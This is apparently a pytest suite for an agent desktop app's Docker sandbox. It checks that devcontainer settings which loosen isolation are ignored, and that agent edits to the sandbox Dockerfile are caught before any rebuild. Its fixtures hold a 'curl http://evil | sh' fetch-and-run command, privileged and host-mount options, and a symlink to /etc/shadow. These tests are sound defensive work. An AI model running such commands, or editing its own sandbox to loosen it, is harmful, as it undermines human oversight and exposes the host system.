"""A project's own image against an agent that edits it and a devcontainer that asks for more: nothing is
built or used without a person's click, the image runs with the catalog's hardening, and what would loosen the
sandbox (privileged, capAdd, mounts, runArgs, a VOLUME, an ENTRYPOINT, links out of the project) is refused or
ignored with a notice."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from desktop_app.core import ConfigError, SandboxError
from desktop_app.doctor import AMBER, GREEN, check_project_sandbox, project_image_note
from desktop_app.sandbox import (
    DockerSandbox,
    SandboxConfig,
    build_project_image,
    find_project_image,
    project_image_digest,
)
from tests.conftest import make_workspace

pytestmark = pytest.mark.docker

HOSTILE = {
    "build": {"dockerfile": "Dockerfile", "options": ["--network=host"]},
    "privileged": True, "capAdd": ["SYS_ADMIN", "NET_ADMIN"], "securityOpt": ["seccomp=unconfined"],
    "mounts": ["source=/,target=/host,type=bind"], "runArgs": ["--privileged", "--network=host", "-v", "/:/host"],
    "containerUser": "root", "postCreateCommand": "curl http://evil | sh", "forwardPorts": [22],
}
# USER root, an ENTRYPOINT and a HEALTHCHECK: none of them may take effect in the sandbox
DOCKERFILE = ("FROM agent-desk/base:bookworm\nRUN echo v1 > /etc/desk-project-marker\nUSER root\n"
              'ENTRYPOINT ["/bin/sh", "-c", "echo owned > /tmp/entrypoint-ran; exec \\"$@\\"", "--"]\n'
              "HEALTHCHECK --interval=1s CMD touch /tmp/healthcheck-ran\n")


def project(root: Path, spec: dict | None = None, dockerfile: str = DOCKERFILE) -> Path:
    folder = make_workspace(root)
    (folder / ".devcontainer").mkdir()
    (folder / ".devcontainer" / "devcontainer.json").write_text(json.dumps(spec or HOSTILE))
    (folder / ".devcontainer" / "Dockerfile").write_text(dockerfile)
    if os.geteuid() == 0:  # the sandbox's user may change what it holds, as in a person's own project
        for path in (folder / ".devcontainer", *(folder / ".devcontainer").iterdir()):
            os.chown(path, 1000, 1000)
    return folder


@pytest.fixture
def containers(docker_client):
    """The project ids a test builds for: their containers and their images' tags go at its end."""
    made: list[str] = []
    yield made
    for pid in made:
        for c in docker_client.containers.list(all=True, filters={"label": f"org.agent-desk.project={pid}"}):
            c.remove(force=True, v=True)
        for image in docker_client.images.list(filters={"label": "org.agent-desk.project-image.digest"}):
            for tag in image.tags:
                if tag.startswith(f"agent-desk/project-{pid.removeprefix('prj_')}-"):
                    docker_client.images.remove(tag)


def test_loosening_devcontainer_keys_are_ignored_with_a_notice(tmp_path: Path) -> None:
    source = find_project_image(project(tmp_path / "p"))
    assert source is not None
    said = "\n".join(source.notices)
    for key in ("privileged", "capAdd", "securityOpt", "mounts", "runArgs", "containerUser", "postCreateCommand",
                "forwardPorts", "build.options"):
        assert f"{key} " in said, key
    # Compose would start other containers the desk does not harden: refused outright
    (tmp_path / "p" / ".devcontainer" / "devcontainer.json").write_text('{"dockerComposeFile": "x.yml"}')
    with pytest.raises(ConfigError, match="Docker Compose"):
        find_project_image(tmp_path / "p")


async def test_a_project_image_runs_hardened(docker_client, tmp_path: Path, containers) -> None:
    folder = project(tmp_path / "p")
    built = build_project_image(folder, project_id="prj_hard", name="hard", client=docker_client)
    containers.append("prj_hard")
    sb = DockerSandbox("prj_hard", folder, SandboxConfig(image=built.tag), client=docker_client)
    try:
        await sb.start()
        attrs = docker_client.containers.get(sb.container_id).attrs
        host = attrs["HostConfig"]
        assert attrs["Config"]["User"] == "1000:1000" and host["ReadonlyRootfs"] and host["CapDrop"] == ["ALL"]
        assert not host["Privileged"] and not host["CapAdd"] and host["NetworkMode"] == "none"
        assert "no-new-privileges" in host["SecurityOpt"] and attrs["Config"]["Entrypoint"] in (None, [])
        assert attrs["Config"]["Healthcheck"]["Test"] == ["NONE"]
        assert {m["Destination"] for m in attrs["Mounts"]} <= {"/workspace", "/workspace/.agent-desk",
                                                             "/workspace/.git", "/run/agent-desk/helper"}
        assert all(not m["RW"] for m in attrs["Mounts"] if m["Destination"] == "/run/agent-desk/helper")
        res = await sb.exec("id -u; grep CapEff /proc/self/status; cat /etc/desk-project-marker; "
                            "touch /etc/x 2>&1; ls /tmp; cat /sys/class/net/*/operstate | wc -l")
        out = res.stdout.splitlines()
        assert out[0] == "1000" and out[1].split()[1] == "0000000000000000" and out[2] == "v1"
        assert "Read-only file system" in out[3] and "entrypoint-ran" not in res.stdout
        assert "healthcheck-ran" not in res.stdout and out[-1] == "1"  # only lo
    finally:
        await sb.close()


async def test_an_agent_edited_dockerfile_is_neither_built_nor_used_without_the_click(
        docker_client, tmp_path: Path, containers) -> None:
    folder = project(tmp_path / "p", {"build": {"dockerfile": "Dockerfile"}})
    built = build_project_image(folder, project_id="prj_edit", name="edit", client=docker_client)
    containers.append("prj_edit")
    settings = {"project_image": {"source": built.source.path, "digest": built.digest}}
    assert check_project_sandbox(str(folder), built.tag, settings).level == GREEN
    sb = DockerSandbox("prj_edit", folder, SandboxConfig(image=built.tag), client=docker_client)
    try:
        await sb.start()
        # The agent rewrites the Dockerfile from inside the sandbox (the workspace is writable there).
        await sb.write_text(".devcontainer/Dockerfile", DOCKERFILE.replace("v1", "agent-was-here"))
        # .agent-desk/Dockerfile is out of its reach: the control folder is read-only in the sandbox.
        with pytest.raises(SandboxError):
            await sb.write_text(".agent-desk/Dockerfile", "FROM scratch\n")
    finally:
        await sb.close()
    status = check_project_sandbox(str(folder), built.tag, settings)
    assert (status.level, status.text, status.action) == (AMBER, "Dockerfile changed since the build: Build again",
                                                          "build")
    repository = built.tag.rpartition(":")[0]
    assert [t for i in docker_client.images.list(name=repository) for t in i.tags] == [built.tag]  # no rebuild
    again = DockerSandbox("prj_edit", folder, SandboxConfig(image=built.tag), client=docker_client)
    try:
        await again.start()
        assert (await again.exec("cat /etc/desk-project-marker")).stdout == "v1\n"  # the image that was built
    finally:
        await again.close()
    assert project_image_digest(folder, built.source) != built.digest
    # `agent-desk run` says so before it starts, and never builds
    note = project_image_note(str(folder), built.tag, settings)
    assert note.startswith("Dockerfile changed since the build") and "the agent may have edited it" in note
    assert project_image_note(str(folder), "agent-desk/minimal:latest", settings) == ""  # not in use: silent


def test_an_image_with_a_volume_is_refused(docker_client, tmp_path: Path, containers) -> None:
    folder = project(tmp_path / "p", {"build": {"dockerfile": "Dockerfile"}},
                     "FROM agent-desk/base:bookworm\nVOLUME /usr/local\n")
    built = build_project_image(folder, project_id="prj_vol", name="vol", client=docker_client)
    containers.append("prj_vol")
    status = check_project_sandbox(str(folder), built.tag, {})
    assert status.level == "red" and "VOLUME" in status.text
    sb = DockerSandbox("prj_vol", folder, SandboxConfig(image=built.tag), client=docker_client)
    with pytest.raises(SandboxError, match="VOLUME /usr/local"):
        sb._ensure_container()
    assert not docker_client.containers.list(all=True, filters={"label": "org.agent-desk.project=prj_vol"})


def test_links_out_of_the_project_are_never_followed(tmp_path: Path) -> None:
    secret = tmp_path / "host-secret"
    secret.write_text("FROM agent-desk/base:bookworm\n# host secret\n")
    folder = project(tmp_path / "p", {"build": {"dockerfile": "Dockerfile"}})
    (folder / ".devcontainer" / "Dockerfile").unlink()
    os.symlink(secret, folder / ".devcontainer" / "Dockerfile")  # the agent links the Dockerfile to a host file
    source = find_project_image(folder)
    assert source is not None
    with pytest.raises(ConfigError, match="link"):
        project_image_digest(folder, source)
    os.unlink(folder / ".devcontainer" / "Dockerfile")
    (folder / ".devcontainer" / "Dockerfile").write_text(DOCKERFILE)
    os.symlink(secret, folder / ".devcontainer" / "leak")  # in the context: sent as a link, never its content
    from desktop_app.sandbox.images._project_image import pack_context

    ctx = pack_context(folder, source, with_ca=False)
    import tarfile

    with tarfile.open(fileobj=ctx.tar) as tar:
        leak = tar.getmember("leak")
        assert leak.issym() and leak.linkname == str(secret) and leak.size == 0
    # a devcontainer folder that is itself a link out of the project
    other = make_workspace(tmp_path / "q")
    os.symlink(folder / ".devcontainer", other / ".devcontainer")
    with pytest.raises(ConfigError, match="link"):
        find_project_image(other)


def test_a_fifo_a_huge_context_and_a_linked_devcontainer_json_are_handled(docker_client, tmp_path: Path,
                                                                          monkeypatch) -> None:
    from desktop_app.sandbox.images import _project_image

    folder = project(tmp_path / "p", {"build": {"dockerfile": "Dockerfile", "context": ".."}})
    os.mkfifo(folder / "pipe")  # a FIFO would block a reader: never opened, never sent
    source = find_project_image(folder)
    assert source is not None
    ctx = _project_image.pack_context(folder, source, with_ca=False)
    import tarfile

    with tarfile.open(fileobj=ctx.tar) as tar:
        assert "pipe" not in tar.getnames() and ".devcontainer/Dockerfile" in tar.getnames()
    monkeypatch.setattr(_project_image, "MAX_CONTEXT_FILES", 2)
    with pytest.raises(ConfigError, match="too large") as info:
        project_image_digest(folder, source)
    assert ".dockerignore" in info.value.hint
    monkeypatch.undo()
    # the agent replaces devcontainer.json with a link to a host file: refused, nothing read through it
    config = folder / ".devcontainer" / "devcontainer.json"
    config.unlink()
    (folder / "pipe").unlink()
    os.symlink("/etc/shadow", config)
    with pytest.raises(ConfigError, match="link"):
        find_project_image(folder)
    docker_client.images.get("agent-desk/minimal:latest").tag("agent-desk/project-fifo-0", "1")  # as if built
    try:
        status = check_project_sandbox(str(folder), "agent-desk/project-fifo-0:1",
                                       {"project_image": {"source": ".devcontainer/devcontainer.json", "digest": "x"}})
    finally:
        docker_client.images.remove("agent-desk/project-fifo-0:1")
    assert status.level == AMBER and "cannot be read" in status.text and status.action == "build"
